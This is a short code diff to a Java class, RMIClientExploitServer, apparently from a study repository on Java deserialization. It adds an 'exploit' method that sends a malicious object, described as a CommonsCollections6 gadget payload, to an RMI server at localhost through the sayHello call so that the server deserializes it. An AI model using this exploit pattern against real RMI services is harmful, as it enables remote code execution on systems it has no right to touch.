@@ -10,6 +10,7 @@ import org.su18.serialize.rmi.RemoteInterface;
 
 import java.lang.reflect.Field;
 import java.rmi.Naming;
+import java.rmi.RemoteException;
 import java.util.HashMap;
 import java.util.HashSet;
 import java.util.Map;
@@ -26,11 +27,23 @@ public class RMIClientExploitServer {
 		RemoteInterface stub = (RemoteInterface) Naming.lookup("rmi://localhost:1099/Hello");
 
 		// 由于 Server 也会反序列化客户端传入的数据，所以如果
-		System.out.println(stub.sayHello(getEvilClass()));
+		System.out.println(exploit(stub, getEvilClass()));
 		System.out.println(stub.sayGoodbye());
 
 	}
 
+	/**
+	 * 把 payload 作为 Object 参数传给服务端
+	 *
+	 * @param stub          远程对象
+	 * @param payloadObject payload
+	 * @return 返回服务端的结果
+	 * @throws RemoteException 远程调用异常
+	 */
+	public static String exploit(RemoteInterface stub, Object payloadObject) throws RemoteException {
+		return stub.sayHello(payloadObject);
+	}
+
 	/**
 	 * 把 CC6 的代码直接粘贴过来了
 	 *